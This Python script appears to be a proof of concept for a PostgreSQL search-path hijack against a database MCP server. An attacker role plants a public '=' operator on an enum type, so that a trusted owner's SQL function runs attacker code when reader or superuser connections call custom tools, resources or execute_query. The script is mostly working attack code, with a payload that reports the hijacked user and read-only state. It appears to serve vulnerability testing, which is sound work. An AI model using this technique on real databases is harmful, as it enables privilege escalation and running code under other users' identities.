"""Custom SQL that calls a DBA's SQL function (trusted owner) whose body compares an enum
unqualified: the call runs on the PL path (pg_catalog, public, pg_temp), where a planted exact
match public.=(mood, mood) wins inside the body. Usage: custom_body.py [reader|postgres] [before|after]"""
import asyncio
import json
import sys
import tempfile
import textwrap
from pathlib import Path

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect

ADMIN = """
DROP FUNCTION IF EXISTS public.fine_count(); DROP TABLE IF EXISTS public.feelings; DROP TYPE IF EXISTS public.mood CASCADE;
CREATE TYPE public.mood AS ENUM ('fine', 'grumpy', 'sad');
CREATE TABLE public.feelings (id int PRIMARY KEY, m public.mood NOT NULL);
INSERT INTO public.feelings VALUES (1,'fine'),(2,'sad'),(3,'fine');
CREATE FUNCTION public.fine_count() RETURNS bigint STABLE LANGUAGE sql
    AS $$SELECT count(*) FROM feelings WHERE m = 'fine'$$;
GRANT SELECT ON public.feelings TO reader;
"""
ATK = r"""
CREATE OR REPLACE FUNCTION atk.mood_eq(public.mood, public.mood) RETURNS boolean LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
DROP OPERATOR IF EXISTS public.= (public.mood, public.mood);
CREATE OPERATOR public.= (LEFTARG = public.mood, RIGHTARG = public.mood, FUNCTION = atk.mood_eq);
"""
DEFS = """
tools:
  - name: fine
    type: sql
    sql: SELECT fine_count() AS n
resources:
  - uri: custom://fine
    name: Fine
    type: sql
    mimeType: application/json
    sql: SELECT fine_count() AS n
"""

async def main(role: str, when: str) -> None:
    a = await asyncpg.connect(DSN); await a.execute(ADMIN); await a.close()
    atk = await asyncpg.connect(as_role("attacker"))
    if when == "before":
        await atk.execute(ATK)
    d = Path(tempfile.mkdtemp()); (d / "defs.yaml").write_text(textwrap.dedent(DEFS))
    try:
        async with connect(DSN if role == "postgres" else as_role(role), custom_definitions=str(d / "defs.yaml")) as c:
            ok, body = await tool(c, "fine")
            print("first call:", ok, json.dumps(body)[:300])
            if when == "after":
                await atk.execute(ATK)
            ok, body = await tool(c, "fine")
            print("tool:", ok, json.dumps(body)[:300])
            try:
                r = await c.read_resource("custom://fine")
                print("resource:", r.contents[0].text[:300])
            except Exception as e:
                print("resource error:", str(e)[:300])
            ok, body = await tool(c, "execute_query", sql="SELECT fine_count() AS n")
            print("execute_query:", ok, json.dumps(body)[:300])
    finally:
        await atk.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood)"); await atk.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", sys.argv[2] if len(sys.argv) > 2 else "before"))
